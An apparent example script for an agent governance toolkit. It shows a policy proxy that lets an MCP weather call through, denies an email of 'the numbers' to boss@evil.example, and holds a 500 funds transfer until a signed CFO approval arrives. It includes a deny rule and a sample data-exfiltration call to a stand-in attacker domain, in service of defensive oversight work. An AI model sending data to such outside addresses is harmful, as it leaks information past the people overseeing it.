"""agt in front of an MCP server, offline: a governing proxy between an MCP client and a real MCPServer.

    python examples/mcp_proxy.py        (needs: pip install 'agt[mcp]')

The upstream server has three tools. The client (a scripted stand-in for an agent's MCP host) lists them
and calls each through agt's proxy: the weather is allowed, mail to an outside domain is denied by the
policy (and never reaches the server), and a large transfer waits for the CFO's signed approval.
The same proxy runs stand-alone in front of any stdio server with:

    agt mcp proxy --policy policy.yaml --agent support-bot -- python my_server.py
"""

from __future__ import annotations

import asyncio
import os
import tempfile
import threading
import time
from pathlib import Path

os.environ.setdefault("OTEL_SDK_DISABLED", "true")

import mcp  # noqa: E402
from mcp.server.mcpserver import MCPServer  # noqa: E402

from agt.adapters.mcp import GoverningProxy  # noqa: E402
from agt.identity import IdentityKeys  # noqa: E402
from agt.runtime.approvals import ApprovalStatus, cast_vote  # noqa: E402
from agt.runtime.approvers import ApproverRegistry  # noqa: E402
from agt.runtime.governor import Governor  # noqa: E402

POLICY = """\
apiVersion: governance.toolkit/v1
name: mcp-example
default_action: allow
rules:
  - name: block-external-email
    condition: "tool_name == 'send_email' and action.params.to endswith '@evil.example'"
    action: deny
    message: Mail to outside domains is blocked.
  - name: large-transfer-approval
    condition: "tool_name == 'transfer_funds' and action.params.amount > 100"
    action: require_approval
    approvers: [cfo]
    message: Transfers over 100 need the CFO.
"""

RAN: list[str] = []
upstream = MCPServer("bank")


@upstream.tool()
def get_weather(city: str) -> str:
    """Get the weather for a city."""
    RAN.append("get_weather")
    return f"sunny in {city}"


@upstream.tool()
def send_email(to: str, body: str) -> str:
    """Send an email."""
    RAN.append("send_email")
    return f"sent to {to}"


@upstream.tool()
def transfer_funds(amount: int) -> str:
    """Transfer money."""
    RAN.append("transfer_funds")
    return f"transferred {amount}"


def cfo_approves(governor: Governor, cfo: IdentityKeys, registry: ApproverRegistry) -> threading.Thread:
    """The CFO at `agt approvals approve`, in another thread: a signed vote on the pending request."""

    def run() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            for req in governor.approvals.list():
                if governor.approval_status(req.id).status is ApprovalStatus.PENDING:
                    print(f"  [cfo] approving {req.id} ({req.tool}, rules {', '.join(req.rule_ids)})")
                    cast_vote(governor.approvals, req.id, cfo, True, registry=registry)
                    return
            time.sleep(0.01)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t


async def main() -> None:
    tmp = Path(tempfile.mkdtemp(prefix="agt-mcp-example-"))
    (tmp / "policy.yaml").write_text(POLICY)
    cfo = IdentityKeys.generate("cfo")
    registry = ApproverRegistry({"cfo": cfo.identity}, source="<example>")
    from agt.audit import AuditLog

    audit = AuditLog(tmp / "audit", key_path=tmp / "audit.key")
    governor = Governor("yaml", str(tmp / "policy.yaml"), audit=audit, approvers=registry)
    proxy = GoverningProxy(governor, upstream, agent_id="support-bot")

    async with mcp.Client(proxy.server) as client:
        tools = await client.list_tools()
        print("tools through the proxy:", ", ".join(t.name for t in tools.tools))
        for name, args in (("get_weather", {"city": "Paris"}),
                           ("send_email", {"to": "boss@evil.example", "body": "the numbers"}),
                           ("transfer_funds", {"amount": 500})):
            voter = cfo_approves(governor, cfo, registry) if name == "transfer_funds" else None
            result = await client.call_tool(name, args)
            if voter is not None:
                voter.join()
            text = " ".join(getattr(c, "text", "") for c in result.content)
            print(f"{name}: {'DENIED' if result.is_error else 'ok'}: {text}")
    governor.close()
    print("tool bodies that ran upstream:", ", ".join(RAN))
    print(f"audit log: {tmp / 'audit'}")


if __name__ == "__main__":
    asyncio.run(main())
